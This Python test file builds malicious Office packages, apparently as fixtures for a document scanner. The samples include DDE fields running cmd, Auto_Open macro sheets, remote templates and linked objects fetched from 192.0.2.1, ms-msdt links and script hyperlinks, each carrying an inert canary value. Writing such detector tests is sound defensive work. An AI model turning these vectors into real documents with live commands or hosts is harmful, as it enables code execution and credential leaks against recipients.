"""The catalogue of attacks on Office packages (O01 to O28), each built from a clean one. Every sample carries `CANARY` where the danger is."""

from __future__ import annotations

from collections.abc import Callable

from tests.build import ooxml as build
from tests.build.ooxml import CANARY, MS, OFFICE, OLE, R_STRICT, A, C, Pack, X

ACTIVE_X = '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{' + CANARY + '}"/>'
EVIL = f"http://192.0.2.1/{CANARY}"
OBJECT = (
    '<w:p><w:r><w:object><v:shape style="width:10pt"><v:imagedata r:id="rIdPic"/></v:shape>'
    '<o:OLEObject Type="Embed" ProgID="{prog}" ShapeID="_1" DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>'
)


def _doc(kind: str, name: str, content: bytes | str = OLE, content_type: str = "application/x-foo", body: str = "") -> Pack:
    return build.docx(body).attach("word/document.xml", "rIdBad", kind, name, content, content_type)


def _outside(kind: str, target: str, body: str = "", *, strict: bool = False, part: str = "word/document.xml") -> Pack:
    kind = f"{R_STRICT}/{kind}" if strict else kind
    return build.docx(body, strict=strict).link(part, "rIdBad", kind, target, external=True)


def _settings(strict: bool, target: str) -> Pack:
    pack = build.docx(strict=strict)
    space = build.W_STRICT if strict else build.W
    relations = R_STRICT if strict else build.R
    text = f'<w:settings xmlns:w="{space}" xmlns:r="{relations}"><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="90"/></w:settings>'
    pack.attach("word/document.xml", "rIdS", f"{relations}/settings", "word/settings.xml", text, f"{OFFICE}wordprocessingml.settings+xml")
    return pack.link("word/settings.xml", "rId1", f"{relations}/attachedTemplate", target, external=True)


def ole_object(prog: str, kind: str = "oleObject", content: bytes = OLE, name: str = "word/embeddings/oleObject1.bin") -> Pack:
    pack = build.docx(OBJECT.format(prog=prog))
    pack.attach("word/document.xml", "rIdPic", "image", "word/media/image1.png", build.png())
    return pack.attach("word/document.xml", "rIdOle", kind, name, content, OFFICE + "oleObject")


def _dialog_sheet() -> Pack:
    sheets = '<sheet name="D1" sheetId="2" r:id="rIdM"/><sheet name="表1" sheetId="1" r:id="rId1"/>'
    text = f'<dialogsheet xmlns="{X}"><sheetPr codeName="{CANARY}"/></dialogsheet>'
    return build.xlsx(sheets=sheets).attach("xl/workbook.xml", "rIdM", "dialogsheet", "xl/dialogsheets/sheet1.xml", text, f"{OFFICE}spreadsheetml.dialogsheet+xml")


def macro_sheet(kind: str = "xlMacrosheet") -> Pack:
    sheets = '<sheet name="M1" sheetId="2" state="veryHidden" r:id="rIdM"/><sheet name="表1" sheetId="1" r:id="rId1"/>'
    names = (
        '<bookViews><workbookView activeTab="1"/></bookViews><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">M1!$A$1</definedName>'
        '<definedName name="範囲" localSheetId="1">表1!$A$1</definedName></definedNames>'
    )
    names_after = names.partition("</bookViews>")
    pack = build.xlsx(workbook=names_after[2], sheets=sheets)
    text = (
        '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" '
        f'xmlns="{X}"><sheetData><row r="1"><c r="A1"><f>EXEC("{CANARY}")</f></c></row></sheetData></xm:macrosheet>'
    )
    return pack.attach("xl/workbook.xml", "rIdM", f"{MS}/{kind}", "xl/macrosheets/sheet1.xml", text, "application/vnd.ms-excel.macrosheet+xml")


def cell(formula: str, value: str = "42") -> Pack:
    return build.xlsx(f'<row r="1"><c r="A1"><f>{formula}</f><v>{value}</v></c></row>')


def _dde_link() -> Pack:
    pack = build.xlsx('<row r="1"><c r="A1"><f>[1]!x</f><v>42</v></c></row>', workbook='<externalReferences><externalReference r:id="rIdE"/></externalReferences>')
    text = f'<externalLink xmlns="{X}"><ddeLink ddeService="cmd" ddeTopic="/c {CANARY}"><ddeItems><ddeItem name="x"/></ddeItems></ddeLink></externalLink>'
    return pack.attach("xl/workbook.xml", "rIdE", "externalLink", "xl/externalLinks/externalLink1.xml", text, f"{OFFICE}spreadsheetml.externalLink+xml")


def _connection() -> Pack:
    text = f'<connections xmlns="{X}"><connection id="1" name="q" type="1"><dbPr connection="{EVIL}"/></connection></connections>'
    return build.xlsx().attach("xl/workbook.xml", "rIdC", "connections", "xl/connections.xml", text, f"{OFFICE}spreadsheetml.connections+xml")


def _click(action: str, target: str = "", kind: str = "hyperlink") -> Pack:
    click = f'<a:hlinkClick r:id="{"rIdL" if target else ""}" action="{action}"/>'
    pack = build.pptx(build.shape("押す", click, 3))
    return pack.link("ppt/slides/slide1.xml", "rIdL", kind, target, external=True) if target else pack


def _web_extension() -> Pack:
    text = f'<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{CANARY}"/>'
    panes = '<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"/>'
    pack = build.docx().attach("", "rIdW", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
                               "word/webextensions/taskpanes.xml", panes, "application/vnd.ms-office.webextensiontaskpanes+xml")  # fmt: skip
    return pack.attach("word/webextensions/taskpanes.xml", "rId1", "http://schemas.microsoft.com/office/2011/relationships/webextension",
                       "word/webextensions/webextension1.xml", text, "application/vnd.ms-office.webextension+xml")  # fmt: skip


def _custom_ui() -> Pack:
    text = f'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="{CANARY}"/>'
    return build.docx().attach("", "rIdU", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml", text)


def _data_mashup() -> Pack:
    text = f'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{CANARY}</DataMashup>'
    return build.xlsx().attach("xl/workbook.xml", "rIdD", "customXml", "customXml/item1.xml", text)


def _linked_picture(target: str) -> Pack:
    return build.docx(build.inline_picture("rIdBad", "link")).link("word/document.xml", "rIdBad", "image", target, external=True)


def hyperlink(target: str) -> Pack:
    body = '<w:p><w:hyperlink r:id="rIdBad"><w:r><w:t>文字</w:t></w:r></w:hyperlink></w:p>'
    return build.docx(body).link("word/document.xml", "rIdBad", "hyperlink", target, external=True)


def _header_field() -> Pack:
    pack = build.docx()
    text = f'<w:hdr {build.SPACES}>{build.field("D", "DEA", f"UTO cmd {CANARY}")}</w:hdr>'
    pack.parts["word/document.xml"] = pack.parts["word/document.xml"].replace(
        b"<w:sectPr/>", b'<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/></w:sectPr>')  # fmt: skip
    return pack.attach("word/document.xml", "rIdH", "header", "word/header9.xml", text, f"{OFFICE}wordprocessingml.header+xml")


def _nested_field() -> Pack:
    """The name of the outer field comes out of an inner one: { { QUOTE 68 68 69 } cmd }."""
    inner = build.field("QUOTE 68 68 69", shown="x").removeprefix("<w:p>").removesuffix("</w:p>")
    begin, end = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return build.docx(f"<w:p>{begin}{inner}<w:r><w:instrText> cmd {CANARY}</w:instrText></w:r>{end}</w:p>")


def _embedded_font() -> Pack:
    text = (
        f'<w:fonts {build.SPACES}><w:font w:name="明朝"><w:embedRegular r:id="rId1" w:fontKey="{{302EE813-EB4A-4642-A93A-89EF99B2457E}}"/>'
        "</w:font></w:fonts>"
    )
    pack = build.docx().attach("word/document.xml", "rIdF", "fontTable", "word/fontTable.xml", text, f"{OFFICE}wordprocessingml.fontTable+xml")
    return pack.attach("word/fontTable.xml", "rId1", "font", "word/fonts/font1.odttf", CANARY, "application/vnd.openxmlformats-officedocument.obfuscatedFont")


def _alt_chunk(content: str, content_type: str) -> Pack:
    return _doc("aFChunk", "word/afchunk.dat", content, content_type, '<w:altChunk r:id="rIdBad"/>')


def fallback() -> Pack:
    """The dangerous branch of an alternative is not the one that old readers see."""
    body = (
        '<mc:AlternateContent><mc:Choice xmlns:q="urn:q" Requires="q"><q:run/></mc:Choice><mc:Fallback>'
        f'<w:p><w:fldSimple w:instr="INCLUDETEXT {EVIL}"><w:r><w:t>旧</w:t></w:r></w:fldSimple></w:p></mc:Fallback></mc:AlternateContent>'
    )
    return build.docx(body)


def _chart_link() -> Pack:
    frame = (
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="図表"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm/>'
        f'<a:graphic><a:graphicData uri="{C}"><c:chart xmlns:c="{C}" r:id="rIdC"/></a:graphicData></a:graphic></p:graphicFrame>'
    )
    chart = (
        f'<c:chartSpace xmlns:c="{C}" xmlns:a="{A}" xmlns:r="{build.R}"><c:chart><c:plotArea/></c:chart>'
        '<c:externalData r:id="rId1"/></c:chartSpace>'
    )
    pack = build.pptx(frame).attach("ppt/slides/slide1.xml", "rIdC", "chart", "ppt/charts/chart1.xml", chart, f"{OFFICE}drawingml.chart+xml")
    return pack.link("ppt/charts/chart1.xml", "rId1", "oleObject", f"file:///\\\\192.0.2.1\\{CANARY}.xlsx", external=True)


def sheet_object() -> Pack:
    xdr = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
    points = "<xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row><xdr:rowOff>0</xdr:rowOff>"
    ole = (
        '<drawing r:id="rIdD"/><oleObjects><mc:AlternateContent><mc:Choice Requires="x14" '
        'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><oleObject progId="Package" shapeId="1025" r:id="rIdO"><objectPr '
        f'defaultSize="0" r:id="rIdI"><anchor xmlns:xdr="{xdr}"><from>{points}</from><to>{points}</to></anchor></objectPr></oleObject></mc:Choice>'
        '<mc:Fallback><oleObject progId="Package" shapeId="1025" r:id="rIdO"/></mc:Fallback></mc:AlternateContent></oleObjects>'
    )
    pack = build.xlsx(after=ole)
    sheet = "xl/worksheets/sheet1.xml"
    shape = (
        f'<xdr:wsDr xmlns:xdr="{xdr}" xmlns:a="{A}"><xdr:twoCellAnchor><xdr:from>{points}</xdr:from><xdr:to>{points}</xdr:to><xdr:sp macro="" '
        'textlink=""><xdr:nvSpPr><xdr:cNvPr id="2" name="o"><a:extLst><a:ext uri="{63B3BB69-23CF-44E3-9099-C40C66FF867C}"><a14:compatExt '
        'xmlns:a14="http://schemas.microsoft.com/office/drawing/2010/main" spid="_x0000_s1025"/></a:ext></a:extLst></xdr:cNvPr><xdr:cNvSpPr/>'
        "</xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"
    )
    pack.attach(sheet, "rIdD", "drawing", "xl/drawings/drawing1.xml", shape, f"{OFFICE}drawing+xml")
    pack.attach(sheet, "rIdI", "image", "xl/media/image1.png", build.png())
    return pack.attach(sheet, "rIdO", "oleObject", "xl/embeddings/oleObject1.bin", OLE, OFFICE + "oleObject")


def _ole_link() -> Pack:
    pack = build.xlsx('<row r="1"><c r="A1"><f>[1]!\'!x\'</f><v>42</v></c></row>', workbook='<externalReferences><externalReference r:id="rIdE"/></externalReferences>')
    text = f'<externalLink xmlns="{X}" xmlns:r="{build.R}"><oleLink r:id="rId1" progId="{CANARY}"/></externalLink>'
    pack.attach("xl/workbook.xml", "rIdE", "externalLink", "xl/externalLinks/externalLink1.xml", text, f"{OFFICE}spreadsheetml.externalLink+xml")
    return pack.link("xl/externalLinks/externalLink1.xml", "rId1", "oleObject", f"file:///{CANARY}", external=True)


def _other_workbook() -> Pack:
    pack = cell("[1]表!A1")
    text = f'<externalLink xmlns="{X}" xmlns:r="{build.R}"><externalBook r:id="rId1"><sheetNames><sheetName val="表"/></sheetNames></externalBook></externalLink>'
    pack.attach("xl/workbook.xml", "rIdE", "externalLink", "xl/externalLinks/externalLink1.xml", text, f"{OFFICE}spreadsheetml.externalLink+xml")
    return pack.link("xl/externalLinks/externalLink1.xml", "rId1", "externalLinkPath", f"file:///\\\\192.0.2.1\\{CANARY}.xlsx", external=True)


def _beside_workbook(kind: str, name: str, text: str, content_type: str = "application/x-foo") -> Pack:
    return build.xlsx().attach("xl/workbook.xml", "rIdB", kind, name, text, content_type)


def _query_table() -> Pack:
    text = f'<queryTable xmlns="{X}" name="{CANARY}" connectionId="1"/>'
    name = "xl/queryTables/queryTable1.xml"
    return build.xlsx().attach("xl/worksheets/sheet1.xml", "rIdQ", "queryTable", name, text, f"{OFFICE}spreadsheetml.queryTable+xml")


def _in_part(kind: str, name: str, root: str) -> Pack:
    """A DDE field somewhere else than in the body."""
    inside = build.field(f"DDEAUTO cmd {CANARY}")
    inside = f'<w:footnote w:id="1">{inside}</w:footnote>' if root == "footnotes" else inside
    text = f"<w:{root} {build.SPACES}>{inside}</w:{root}>"
    return build.docx().attach("word/document.xml", "rIdF", kind, f"word/{name}.xml", text, f"{OFFICE}wordprocessingml.{kind}+xml")


def _text_box() -> Pack:
    inside = f"<v:textbox><w:txbxContent>{build.field(f'DDE cmd {CANARY}')}</w:txbxContent></v:textbox>"
    return build.docx(f"<w:p><w:r><w:pict><v:rect>{inside}</v:rect></w:pict></w:r></w:p>")


def _sheet_control() -> Pack:
    pack = build.xlsx(after=f'<controls><control shapeId="1025" r:id="rIdC" name="{CANARY}"/></controls>')
    pack.attach("xl/worksheets/sheet1.xml", "rIdC", "control", "xl/activeX/activeX1.xml", ACTIVE_X, "application/vnd.ms-office.activeX+xml")
    return pack.attach("xl/activeX/activeX1.xml", "rId1", f"{MS}/activeXControlBinary", "xl/activeX/activeX1.bin", OLE, "application/vnd.ms-office.activeX")


def _slide_control() -> Pack:
    pack = build.pptx()
    slide = "ppt/slides/slide1.xml"
    control = f'<p:controls><p:control spid="3" name="{CANARY}" r:id="rIdC"/></p:controls></p:cSld>'
    pack.parts[slide] = pack.parts[slide].replace(b"</p:cSld>", control.encode())
    return pack.attach(slide, "rIdC", "control", "ppt/activeX/activeX1.xml", ACTIVE_X, "application/vnd.ms-office.activeX+xml")


def _slide_object() -> Pack:
    ole = (
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="表"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/>'
        '<a:ext cx="9" cy="9"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj '
        'progId="Package" r:id="rIdO"><p:embed/><p:pic><p:nvPicPr><p:cNvPr id="0" name=""/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
        '<a:blip r:embed="rIdI"/></p:blipFill><p:spPr/></p:pic></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>'
    )
    pack = build.pptx(ole).attach("ppt/slides/slide1.xml", "rIdO", "oleObject", "ppt/embeddings/oleObject1.bin", OLE, OFFICE + "oleObject")
    return pack.attach("ppt/slides/slide1.xml", "rIdI", "image", "ppt/media/image1.png", build.png())


def _media() -> Pack:
    video = '<p:pic><p:nvPicPr><p:cNvPr id="5" name="動"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="rIdV"/></p:nvPr></p:nvPicPr><p:blipFill/><p:spPr/></p:pic>'
    return build.pptx(video).link("ppt/slides/slide1.xml", "rIdV", "video", f"file:///{CANARY}.avi", external=True)


def _sound() -> Pack:
    return build.pptx(build.shape("音", '<a:hlinkClick r:id=""><a:snd r:embed="rIdS" name="x"/></a:hlinkClick>', 3)).attach(
        "ppt/slides/slide1.xml", "rIdS", "audio", "ppt/media/audio1.wav", b"RIFF" + CANARY.encode(), "audio/x-wav")  # fmt: skip


def _hover() -> Pack:
    return build.pptx(build.shape("触", f'<a:hlinkHover r:id="" action="ppaction://macro?name={CANARY}"/>', 3))


def _metafile(extension: str, content: bytes) -> Pack:
    pack = build.docx(build.inline_picture("rIdE")).attach("word/document.xml", "rIdE", "image", f"word/media/a.{extension}", content)
    pack.defaults[extension] = f"image/x-{extension}"
    return pack


def _svg() -> Pack:
    picture = build.inline_picture("rIdP").replace("<a:blip r:embed=\"rIdP\"/>", (
        '<a:blip r:embed="rIdP"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip '
        'xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rIdV"/></a:ext></a:extLst></a:blip>'))
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>{CANARY}</script><rect width="9" height="9"/></svg>'
    pack = build.docx(picture).attach("word/document.xml", "rIdP", "image", "word/media/a.png", build.png())
    return pack.attach("word/document.xml", "rIdV", "image", "word/media/a.svg", svg, "image/svg+xml")


def _word_settings(inside: str, kind: str = "settings", root: str = "settings") -> Pack:
    text = f"<w:{root} {build.SPACES}>{inside}</w:{root}>"
    return build.docx().attach("word/document.xml", "rIdS", kind, f"word/{kind}.xml", text, f"{OFFICE}wordprocessingml.{kind}+xml")


def _mail_merge() -> Pack:
    pack = _word_settings(f'<w:mailMerge><w:query w:val="{CANARY}"/><w:dataSource r:id="rId1"/></w:mailMerge><w:zoom w:percent="90"/>')
    return pack.link("word/settings.xml", "rId1", "mailMergeSource", f"file:///{CANARY}", external=True)


def _frameset() -> Pack:
    pack = _word_settings('<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>', "webSettings", "webSettings")
    return pack.link("word/webSettings.xml", "rId1", "frame", EVIL, external=True)


def _signature() -> Pack:
    package = "http://schemas.openxmlformats.org/package/2006"
    pack = build.docx().attach("", "rIdO", f"{package}/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs", "",
                               "application/vnd.openxmlformats-package.digital-signature-origin")  # fmt: skip
    return pack.attach("_xmlsignatures/origin.sigs", "rId1", f"{package}/relationships/digital-signature/signature", "_xmlsignatures/sig1.xml",
                       f"<Signature>{CANARY}</Signature>", "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml")  # fmt: skip


CASES: dict[str, tuple[Callable[[], Pack], str]] = {
    "O01 VBA under another name": (lambda: _doc(f"{MS}/vbaProject", "word/a.dat"), "ooxml.vba"),
    "O01 VBA without any known type": (lambda: _doc("http://example.com/rel", "word/a.dat"), "ooxml.unknown_part"),
    "O02 purged VBA": (lambda: _doc(f"{MS}/vbaProject", "word/vbaProject.bin", OLE), "ooxml.vba"),
    "O03 macro sheet": (macro_sheet, "ooxml.macro_sheet"),
    "O03 Auto_Open": (macro_sheet, "ooxml.macro_name"),
    "O03 dialog sheet": (_dialog_sheet, "ooxml.macro_sheet"),
    "O03 international macro sheet": (lambda: macro_sheet("xlIntlMacrosheet"), "ooxml.macro_sheet"),
    "O04 template by http": (lambda: _settings(False, EVIL), "ooxml.external_template"),
    "O04 template by UNC, strict": (lambda: _settings(True, f"\\\\192.0.2.1\\{CANARY}"), "ooxml.external_template"),
    "O05 linked object": (lambda: _outside("oleObject", f"mhtml:{EVIL}!x-usc:{EVIL}!"), "ooxml.ole_object"),
    "O05 linked object, strict": (lambda: _outside("oleObject", f"ms-msdt:/{CANARY}", strict=True), "ooxml.ole_object"),
    "O06 picture by http": (lambda: _linked_picture(EVIL), "ooxml.external_image"),
    "O06 picture by UNC": (lambda: _linked_picture(f"file://///192.0.2.1/{CANARY}"), "ooxml.external_image"),
    **{
        f"O07 link {target[:12]}": (lambda target=target: hyperlink(target + CANARY), "ooxml.hyperlink")
        for target in ("file:///c:/", "\\\\host\\", "search-ms:q=", "ms-officecmd:", "javascript:", "vbscript:", "java\tscript:", "data:", "../", "http:\\\\h")
    },
    "O08 DDEAUTO over runs": (lambda: build.docx(build.field("DDE", "AUTO c:\\\\cmd ", CANARY)), "ooxml.dde"),
    "O08 plain DDE": (lambda: build.docx(build.field(f' DDE "cmd" "{CANARY}"')), "ooxml.dde"),
    "O08 lower case": (lambda: build.docx(build.field(f"\tddeauto cmd {CANARY}")), "ooxml.dde"),
    "O08 header": (_header_field, "ooxml.dde"),
    "O08 footnote": (lambda: _in_part("footnotes", "footnotes", "footnotes"), "ooxml.dde"),
    "O08 text box": (_text_box, "ooxml.dde"),
    "O08 deleted text": (lambda: build.docx(build.field(f"DDE cmd {CANARY}").replace("instrText", "delInstrText")), "ooxml.dde"),
    "O08 name out of a field": (_nested_field, "ooxml.field"),
    "O08 simple field": (lambda: build.docx(f'<w:p><w:fldSimple w:instr="DDE cmd {CANARY}"/></w:p>'), "ooxml.dde"),
    **{
        f"O09 {word}": (lambda word=word: build.docx(f'<w:p><w:fldSimple w:instr="{word} {EVIL}"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>'), "ooxml.external_field")
        for word in ("INCLUDETEXT", "INCLUDE", "IMPORT", "EMBED", "DATABASE", "RD")
    },
    "O09 INCLUDEPICTURE": (lambda: build.docx(build.field(f'INCLUDEPICTURE "{EVIL}" \\d')), "ooxml.external_field"),
    "O09 LINK": (lambda: build.docx(build.field(f"LINK Excel.Sheet {EVIL}")), "ooxml.external_field"),
    "O09 HYPERLINK field": (lambda: build.docx(build.field(f'HYPERLINK "file:///{CANARY}"')), "ooxml.hyperlink"),
    "O09 MACROBUTTON": (lambda: build.docx(build.field(f"MACROBUTTON {CANARY} 押す")), "ooxml.field"),
    "O10 ddeLink": (_dde_link, "ooxml.dde"),
    "O10 oleLink": (_ole_link, "ooxml.external_link"),
    **{
        f"O11 {formula[:12]}": (lambda formula=formula: cell(formula), "ooxml.formula")
        for formula in (
            f'WEBSERVICE("{EVIL}")', f'_xlfn.IMAGE("{EVIL}")', f'RTD("{CANARY}",,"x")', f'CALL("{CANARY}","a","b")', f'REGISTER("{CANARY}")',
            f'1+EXEC("{CANARY}")', f'FILTERXML("{CANARY}","/")', f'_xll.ADDIN("{CANARY}")', f'SUM(1,Unknown("{CANARY}"))',
        )
    },
    "O11 HYPERLINK": (lambda: cell(f'HYPERLINK("file://{CANARY}","x")'), "ooxml.hyperlink"),
    "O11 HYPERLINK put together": (lambda: cell(f'HYPERLINK("ht"&amp;"tp://{CANARY}","x")'), "ooxml.hyperlink"),
    "O11 other workbook": (lambda: cell(f"'\\\\192.0.2.1\\[{CANARY}.xlsx]Sheet1'!A1"), "ooxml.external_link"),
    "O11 other workbook by number": (_other_workbook, "ooxml.external_link"),
    "O11 DDE formula": (lambda: cell(f"cmd|'/c {CANARY}'!A0"), "ooxml.dde"),
    "O12 connections": (_connection, "ooxml.connection"),
    "O12 query table": (_query_table, "ooxml.connection"),
    "O12 data model": (lambda: _beside_workbook(f"{MS}/powerPivotData", "xl/model/item.data", CANARY), "ooxml.connection"),
    "O12 XML maps": (lambda: _beside_workbook("xmlMaps", "xl/xmlMaps.xml", f'<MapInfo xmlns="{X}">{CANARY}</MapInfo>'), "ooxml.connection"),
    "O12 DataMashup": (_data_mashup, "ooxml.custom_xml"),
    "O13 OLE package": (lambda: ole_object("Package"), "ooxml.ole_object"),
    "O13 OLE package on a slide": (_slide_object, "ooxml.ole_object"),
    "O13 OLE package in a sheet": (sheet_object, "ooxml.ole_object"),
    "O14 embedded workbook": (lambda: ole_object("Excel.Sheet.12", "package", build.xlsx().bytes() + CANARY.encode(), "word/embeddings/a.xlsx"), "ooxml.embedded_file"),
    "O15 equation": (lambda: ole_object("Equation.3", content=OLE + bytes.fromhex("02CE020000000000C000000000000046")), "ooxml.ole_object"),
    "O16 ActiveX": (lambda: _doc("control", "word/activeX/activeX1.xml", ACTIVE_X, "application/vnd.ms-office.activeX+xml"), "ooxml.activex"),
    "O16 ActiveX in a sheet": (_sheet_control, "ooxml.activex"),
    "O16 ActiveX on a slide": (_slide_control, "ooxml.activex"),
    "O17 altChunk MHT": (lambda: _alt_chunk(f"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{CANARY}", "message/rfc822"), "ooxml.alt_chunk"),
    "O17 altChunk RTF": (lambda: _alt_chunk("{\\rtf1 " + CANARY + "}", "application/rtf"), "ooxml.alt_chunk"),
    "O17 altChunk HTML": (lambda: _alt_chunk(f"<script>{CANARY}</script>", "text/html"), "ooxml.alt_chunk"),
    "O18 custom UI": (_custom_ui, "ooxml.custom_ui"),
    "O19 web extension": (_web_extension, "ooxml.web_extension"),
    "O20 program": (lambda: _click("ppaction://program", f"file:///{CANARY}"), "ooxml.action"),
    "O20 macro": (lambda: _click(f"ppaction://macro?name={CANARY}"), "ooxml.action"),
    "O20 other show": (lambda: _click("ppaction://hlinkpres?slideindex=1", f"file:///{CANARY}"), "ooxml.action"),
    "O20 OLE verb": (lambda: _click(f"ppaction://ole?verb=0{CANARY}"), "ooxml.action"),
    "O20 file": (lambda: _click("ppaction://hlinkfile", f"file:///{CANARY}"), "ooxml.action"),
    "O20 mouse over": (_hover, "ooxml.action"),
    "O20 linked video": (_media, "ooxml.media"),
    "O20 sound": (_sound, "ooxml.media"),
    "O20 unknown action": (lambda: _click(f"x{CANARY}"), "ooxml.action"),
    "O22 orphan": (lambda: build.docx().part(f"word/{CANARY}.bin", OLE), "ooxml.unreferenced_part"),
    "O22 thumbnail": (lambda: build.docx().attach("", "rIdT", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail", "docProps/thumbnail.emf", CANARY), "ooxml.thumbnail"),
    "O22 printer settings": (lambda: build.xlsx().attach("xl/worksheets/sheet1.xml", "rIdP", "printerSettings", "xl/printerSettings/p1.bin", CANARY), "ooxml.printer_settings"),
    "O22 signature": (_signature, "ooxml.signature"),
    "O22 unknown content type": (lambda: _doc("image", "word/media/a.dat", CANARY, body=build.inline_picture("rIdBad")), "ooxml.picture_replaced"),
    "O23 EMF": (lambda: _metafile("emf", build.emf()), "ooxml.picture_replaced"),
    "O23 WMF": (lambda: _metafile("wmf", build.wmf()), "ooxml.picture_replaced"),
    "O23 SVG": (_svg, ""),
    "O23 font": (_embedded_font, "ooxml.embedded_font"),
    "O23 EPS": (lambda: build.docx(build.inline_picture("rIdE")).attach("word/document.xml", "rIdE", "image", "word/media/a.eps", f"%!PS-Adobe-3.0 EPSF-3.0\n{CANARY}"), "ooxml.picture_replaced"),
    "O27 sub-document": (lambda: _outside("subDocument", EVIL, '<w:subDoc r:id="rIdBad"/>'), "ooxml.sub_document"),
    "O27 frameset": (_frameset, "ooxml.frame"),
    "O27 mail merge": (_mail_merge, "ooxml.mail_merge"),
    "document variables": (lambda: _word_settings(f'<w:docVars><w:docVar w:name="a" w:val="{CANARY}"/></w:docVars>'), "ooxml.custom_data"),
    "O27 frame": (lambda: _outside("frame", EVIL), "ooxml.frame"),
    "O27 slide update": (lambda: build.pptx().link("ppt/slides/slide1.xml", "rIdS", "slideUpdateUrl", EVIL, external=True), "ooxml.external_reference"),
    "O27 chart data outside": (_chart_link, "ooxml.ole_object"),
    "alternative content": (fallback, "ooxml.external_field"),
}  # fmt: skip

